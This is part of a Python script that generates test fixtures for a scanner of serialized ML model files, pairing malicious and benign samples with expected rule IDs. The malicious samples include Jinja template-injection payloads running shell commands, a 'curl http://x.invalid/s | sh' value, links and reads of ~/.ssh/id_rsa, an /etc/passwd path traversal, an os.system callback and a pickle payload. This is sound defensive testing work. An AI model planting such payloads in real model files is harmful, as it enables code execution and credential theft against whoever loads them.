    # F12c: a pickle in the HDF5 user block (torch.load reads it, h5py reads the rest).
    path = os.path.join(OUT, "f/F12c-userblock-pickle.h5")
    with h5py.File(path, "w", userblock_size=512) as f:
        f.attrs["keras_version"] = "2.12.0"
    with open(path, "r+b") as f:
        f.write(EVIL)
    MANIFEST.append(("f/F12c-userblock-pickle.h5", "SZ201"))
    # F8b: a TFOpLambda calling tf.io.write_file, and a registered custom layer.
    tfop = {"class_name": "Functional", "config": {"name": "m", "layers": [
        {"class_name": "TFOpLambda", "config": {"name": "tf.io.write_file", "function": "io.write_file"}},
        {"class_name": "my_pkg>MyLayer", "config": {"name": "custom"}}]}}
    path = os.path.join(OUT, "f/F08b-tfoplambda-custom.h5")
    with h5py.File(path, "w") as f:
        f.attrs["model_config"] = json.dumps(tfop)
        f.attrs["keras_version"] = "2.12.0"
    MANIFEST.append(("f/F08b-tfoplambda-custom.h5", "SZ402,SZ405"))
    # A model_config attribute cut short: Keras cannot load it; the report names the attribute.
    path = os.path.join(OUT, "f/F08c-h5-config-not-json.h5")
    with h5py.File(path, "w") as f:
        f.attrs["model_config"] = '{"class_name": "Sequential", "config": {"name": "m", "layers": ['
        f.attrs["keras_version"] = "2.12.0"
    MANIFEST.append(("f/F08c-h5-config-not-json.h5", "incomplete"))
    # Benign legacy Keras .h5: config, training config, weights; read completely.
    path = os.path.join(OUT, "benign/dense.h5")
    with h5py.File(path, "w") as f:
        f.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"name": "m", "layers": [
            {"class_name": "Dense", "config": {"name": "d", "units": 2, "activation": "relu"}}]}})
        f.attrs["training_config"] = json.dumps({"loss": "mse", "optimizer_config": {"class_name": "Adam", "config": {}}})
        f.attrs["keras_version"] = "2.12.0"
        f.attrs["backend"] = "tensorflow"
        g = f.create_group("model_weights/d/d")
        g.create_dataset("kernel:0", data=[[1.0, 2.0], [3.0, 4.0]])
        g.create_dataset("bias:0", data=[0.0, 0.0])
        f["model_weights"].attrs["layer_names"] = [b"d"]
    MANIFEST.append(("benign/dense.h5", "clean"))
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.create_group("layers/dense/vars")
        f["layers/dense/vars/0"] = h5py.ExternalLink("/home/user/.ssh/id_rsa", "/x")
    cfg = {"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": [dense("dense")]}}
    write("f/F12-external-link.keras", zip_bytes([("metadata.json", json.dumps({"keras_version": "3.8.0"})),
                                                 ("config.json", json.dumps(cfg)), ("model.weights.h5", buf.getvalue())]),
          "SZ404")


# ---------------------------------------------------------------- GGUF, templates, safetensors, ONNX
SSTI = ("{% for c in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in c.__name__ %}"
        "{{ c()._module.__builtins__['__import__']('os').popen('" + CMD + "').read() }}{% endif %}{% endfor %}")
OBFUSCATED = "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}{{ lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"
BENIGN_TEMPLATE = ("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + "
                   "'<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}")


def gguf(kvs, tensors=()):
    def s(x):
        b = x.encode()
        return struct.pack("<Q", len(b)) + b
    out = b"GGUF" + struct.pack("<I", 3) + struct.pack("<QQ", len(tensors), len(kvs))
    for k, v in kvs:
        if isinstance(v, str):
            out += s(k) + struct.pack("<I", 8) + s(v)
        elif isinstance(v, list):
            out += s(k) + struct.pack("<I", 9) + struct.pack("<IQ", 8, len(v)) + b"".join(s(x) for x in v)
        else:
            out += s(k) + struct.pack("<I", 4) + struct.pack("<I", v)
    for name, dims, off in tensors:
        out += s(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims) + struct.pack("<IQ", 0, off)
    out += b"\x00" * ((32 - len(out) % 32) % 32)
    return out + b"\x00" * 64


def safetensors(header, data):
    h = json.dumps(header).encode() if isinstance(header, dict) else header
    return struct.pack("<Q", len(h)) + h + data


def pb_varint(n):
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        out += bytes([b | (0x80 if n else 0)])
        if not n:
            return out


def pb_field(num, payload):
    if isinstance(payload, int):
        return pb_varint(num << 3) + pb_varint(payload)
    return pb_varint((num << 3) | 2) + pb_varint(len(payload)) + payload


def onnx_model(location=None, domain=""):
    tensor = pb_field(8, b"w") + pb_field(2, 1)  # name, data_type FLOAT
    if location:
        tensor += pb_field(13, pb_field(1, b"location") + pb_field(2, location.encode())) + pb_field(14, 1)
    node = pb_field(1, b"x") + pb_field(2, b"y") + pb_field(4, b"Relu") + (pb_field(7, domain.encode()) if domain else b"")
    graph = pb_field(1, node) + pb_field(2, b"g") + pb_field(5, tensor)
    opset = pb_field(1, domain.encode()) + pb_field(2, 1) if domain else pb_field(2, 17)
    return pb_field(1, 8) + pb_field(8, opset) + pb_field(7, graph)


def section_other():
    write("f/F16-gguf-chat-template.gguf", gguf([("general.architecture", "qwen2"), ("tokenizer.chat_template", SSTI)]), "SZ503")
    write("f/F16-gguf-obfuscated.gguf", gguf([("general.architecture", "qwen2"), ("tokenizer.chat_template.tool_use", OBFUSCATED)]),
          "SZ504")
    write("f/F17-gguf-lying-dims.gguf", gguf([("general.architecture", "llama")], [("t", [1 << 32, 1 << 32, 1 << 20], 0)]), "SZ505")
    write("f/F16-tokenizer-config/tokenizer_config.json", json.dumps({"chat_template": SSTI}).encode(), "SZ503")
    write("f/F16-chat-template-jinja/chat_template.jinja", OBFUSCATED.encode(), "SZ504")
    # Templates found by content: a processor config nesting named templates, YAML, .j2, .template,
    # chat_template.json, and names assembled from pieces.
    write("f/F16-nested-processor.json", json.dumps({"processor_class": "LlavaProcessor", "tokenizer": {"chat_template": [
        {"name": "default", "template": BENIGN_TEMPLATE},
        {"name": "rag", "template": "{{ lipsum.__globals__['os'].popen('" + CMD + "').read() }}"}]}}).encode(), "SZ503")
    write("f/F16-template.yaml", ("model: qwen2\nchat_template: |\n  {% for m in messages %}{{ m['content'] }}{% endfor %}\n"
                                  "  {{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('" + CMD +
                                  "').read() }}\neos_token: x\n").encode(), "SZ503")
    write("f/F16-prompt.j2", ("{{ request.application.__globals__.__builtins__.__import__('os').popen('" + CMD +
                              "').read() }}").encode(), "SZ503")
    write("f/F16-chat.template", "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}".encode(), "SZ503")
    write("f/F16-concat/chat_template.json", json.dumps({"chat_template": "{{ ()|attr('__cla' ~ 'ss__')|attr('__ba'+'se__') }}"}).encode(),
          "SZ503,SZ504")
    write("f/F16-escaped.jinja", "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fmro\\x5f\\x5f') }}".encode(),
          "SZ503,SZ504")
    write("benign/chat_template.json", json.dumps({"chat_template": BENIGN_TEMPLATE}).encode(), "clean")
    write("benign/prompts.yaml", ("chat_template: |\n  {% for m in messages %}{{ m['role'] + ': ' + m['content'] }}{% endfor %}\n"
                                  "note: Answer the user's request.\n").encode(), "clean")
    write("f/F18-safetensors-overflow.safetensors", safetensors({"t": {"dtype": "F32", "shape": [4194305, 4194305, 211106198978564],
                                                                      "data_offsets": [0, 16]}}, b"\x00" * 16), "SZ501")
    dup = b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    write("f/F18-safetensors-duplicate.safetensors", safetensors(dup, b"\x00" * 4), "SZ501")
    write("f/F18-safetensors-overlap.safetensors", safetensors({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                                                                  "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}},
                                                                 b"\x00" * 12), "SZ501")
    write("f/F18-safetensors-metadata.safetensors", safetensors({"__metadata__": {"note": "$(curl http://x.invalid/s | sh)"},
                                                                   "a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}},
                                                                  b"\x00" * 4), "SZ502")
    write("f/ONNX-external-traversal.onnx", onnx_model(location="../../../../etc/passwd"), "SZ506")
    write("f/ONNX-custom-domain.onnx", onnx_model(domain="com.example.evilops"), "SZ507")
    # onnxruntime-extensions ops, the library named in metadata_props.
    contrib = onnx_model(domain="ai.onnx.contrib") + pb_field(14, pb_field(1, b"custom_op_library") +
                                                               pb_field(2, b"libortextensions.so"))
    write("f/ONNX-contrib-ops.onnx", contrib, "SZ507")
    # A model-local function (ModelProto.functions) in its own domain is an ONNX graph, not native code.
    function = pb_field(1, b"Block") + pb_field(10, b"local.fn") + pb_field(4, b"x") + pb_field(5, b"y") + \
        pb_field(7, pb_field(1, b"x") + pb_field(2, b"y") + pb_field(4, b"Relu")) + pb_field(9, pb_field(2, 17))
    call_node = pb_field(1, b"x") + pb_field(2, b"y") + pb_field(4, b"Block") + pb_field(7, b"local.fn")
    write("benign/model-local-function.onnx", pb_field(1, 8) + pb_field(8, pb_field(2, 17)) +
          pb_field(8, pb_field(1, b"local.fn") + pb_field(2, 1)) + pb_field(7, pb_field(1, call_node) + pb_field(2, b"g")) +
          pb_field(25, function), "clean")
    # Benign counterparts.
    write("benign/model.safetensors", safetensors({"__metadata__": {"format": "pt"},
                                                   "a": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
                                                   "b": {"dtype": "BF16", "shape": [3], "data_offsets": [16, 22]}},
                                                  b"\x00" * 22), "clean")
    # A 640-byte header: its length field starts with the bytes of PROTO 2.
    head = json.dumps({"a": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]}}).encode()
    write("benign/header-640.safetensors", safetensors(head.ljust(640, b" "), b"\x00" * 4), "clean")
    write("benign/model.gguf", gguf([("general.architecture", "qwen2"), ("tokenizer.ggml.tokens", ["a", "b", "<|im_end|>"]),
                                     ("general.alignment", 32), ("tokenizer.chat_template", BENIGN_TEMPLATE)],
                                    [("t", [4, 4], 0)]), "clean")
    write("benign/tokenizer/tokenizer_config.json", json.dumps({"chat_template": BENIGN_TEMPLATE, "eos_token": "<|im_end|>"}).encode(),
          "clean")
    write("benign/model.onnx", onnx_model(location="model.onnx.data"), "clean")
    write("benign/plain-data-proto0.pkl", pickle.dumps({"a": [1, 2.5, "x"], "b": (None, True), "c": b"bytes"}, 0), "clean")
    for proto in (2, 3, 5):
        write(f"benign/plain-data-proto{proto}.pkl", pickle.dumps({"a": [1, 2.5, "x"], "b": {1, 2}, "c": b"\x00" * 300}, proto),
              "clean")


# ---------------------------------------------------------------- TensorFlow SavedModel
# Protobuf bytes written by hand (no TensorFlow): SavedModel{2: MetaGraphDef{2: GraphDef{1: NodeDef,
# 2: FunctionDefLibrary{1: FunctionDef{1: OpDef{1: name}, 3: NodeDef}}}}}; NodeDef{1 name, 2 op,
# 3 input, 5 attr map}; AttrValue{8: TensorProto{8: string_val}}.
def tf_node(name, op, inputs=(), const_str=None):
    n = pb_field(1, name.encode()) + pb_field(2, op.encode()) + b"".join(pb_field(3, i.encode()) for i in inputs)
    if const_str is not None:
        tensor = pb_field(1, 7) + pb_field(8, const_str.encode())  # dtype DT_STRING, string_val
        n += pb_field(5, pb_field(1, b"value") + pb_field(2, pb_field(8, tensor)))
    return n


def saved_model(nodes, functions=(), object_metadata=None):
    graph = b"".join(pb_field(1, n) for n in nodes)
    if functions:
        lib = b"".join(pb_field(1, pb_field(1, pb_field(1, name.encode())) + b"".join(pb_field(3, n) for n in fn_nodes))
                       for name, fn_nodes in functions)
        graph += pb_field(2, lib)
    meta = pb_field(2, graph)
    if object_metadata:
        user = pb_field(1, b"_tf_keras_layer") + pb_field(3, json.dumps(object_metadata).encode())
        meta += pb_field(7, pb_field(1, pb_field(4, user)))
    return pb_field(1, 1) + pb_field(2, meta)


def ordinary_graph():
    return [tf_node("x", "Placeholder"), tf_node("w", "VarHandleOp"), tf_node("r", "ReadVariableOp", ["w"]),
            tf_node("y", "MatMul", ["x", "r"]), tf_node("saver_filename", "Placeholder"),
            tf_node("names", "Const", const_str="w/.ATTRIBUTES/VARIABLE_VALUE"),
            tf_node("save", "SaveV2", ["saver_filename", "names", "names", "r"]),
            tf_node("restore", "RestoreV2", ["saver_filename", "names", "names"]),
            tf_node("model_prefix", "Const", const_str="model"), tf_node("save_1", "SaveV2", ["model_prefix", "names", "names", "r"])]


def section_savedmodel():
    write("benign/savedmodel/saved_model.pb", saved_model(ordinary_graph(), [
        ("__inference_call_1", [tf_node("relu", "Relu", ["x"]), tf_node("out", "Identity", ["relu:features:0"])])]), "clean")
    write("f/TF-pyfunc/saved_model.pb", saved_model(ordinary_graph(), [
        ("__inference_serve_7", [tf_node("token", "Const", const_str="pyfunc_0"),
                                 tf_node("call", "EagerPyFunc", ["x"]), tf_node("out", "Identity", ["call:output:0"])])]),
          "SZ601")
    write("f/TF-readfile/saved_model.pb", saved_model(ordinary_graph() + [
        tf_node("path", "Const", const_str="/home/user/.ssh/id_rsa"), tf_node("leak", "ReadFile", ["path"])]), "SZ602")
    write("f/TF-restore-outside/saved_model.pb", saved_model(ordinary_graph() + [
        tf_node("evil_prefix", "Const", const_str="../../../tmp/attacker/ckpt"), tf_node("names2", "Const", const_str="v"),
        tf_node("restore2", "RestoreV2", ["evil_prefix", "names2", "names2"])]), "SZ602")
    lam = {"class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {
        "code": "4wEAAAAAAAAAAAAAAAEAAAADAAAA8wQAAACXAHkAKQFO"}}}}
    write("f/TF-object-graph-lambda/saved_model.pb", saved_model(ordinary_graph(), object_metadata=lam), "SZ401")
    meta = pb_field(1, pb_field(2, 1) + pb_field(3, b"root.layer-0") + pb_field(4, b"_tf_keras_layer") +
                    pb_field(5, json.dumps(lam).encode()))
    write("f/TF-keras-metadata/keras_metadata.pb", meta, "SZ401")
    write("f/TF-zipped-savedmodel.zip", zip_bytes([("model/saved_model.pb", saved_model(ordinary_graph(), [
        ("__inference_serve_7", [tf_node("call", "PyFunc", ["x"])])])), ("model/fingerprint.pb", b"\x08\x01"),
        ("model/variables/variables.index", b"\x00" * 16)]), "SZ601")


# ---------------------------------------------------------------- skops
def skops_zip(root):
    return zip_bytes([("schema.json", json.dumps(root)), ("0.npy", b"\x93NUMPY\x01\x00\x76\x00" +
                     b"{'descr': '<f8', 'fortran_order': False, 'shape': (2,), }".ljust(117) + b"\n" + b"\x00" * 16)])


def section_skops():
    est = {"__class__": "LogisticRegression", "__module__": "sklearn.linear_model._logistic", "__loader__": "ObjectNode",
           "content": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {
               "C": {"__class__": "float", "__module__": "builtins", "__loader__": "JsonNode", "content": "1.0"},
               "coef_": {"__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode", "type": "numpy",
                         "file": "0.npy"}}}, "protocol": 1, "_skops_version": "0.9.0"}
    write("benign/estimator.skops", skops_zip(est), "clean")
    evil = json.loads(json.dumps(est))
    evil["content"]["content"]["callback"] = {"__class__": "function", "__module__": "builtins", "__loader__": "FunctionNode",
                                              "content": {"module_path": "posix", "function": "system"}}
    write("f/SKOPS-function-node.skops", skops_zip(evil), "SZ701")


def main():
    os.makedirs(OUT, exist_ok=True)
    section_a()
    section_b()
    section_c()
    section_numpy_joblib()
    section_torch()
    section_keras()
    section_h5()
    section_other()
    section_savedmodel()
    section_skops()
    with open(os.path.join(OUT, "MANIFEST"), "w") as f:
        f.write("# <path> <rule ids that must fire, comma-separated | clean | incomplete>\n")
        f.write("# Generated by tools/make_serialized_fixtures.py; every line is one sample.\n")
        for rel, expect in MANIFEST:
            f.write(f"{rel} {expect}\n")
    print(f"{len(MANIFEST)} fixtures in {os.path.normpath(OUT)}")


if __name__ == "__main__":
    main()
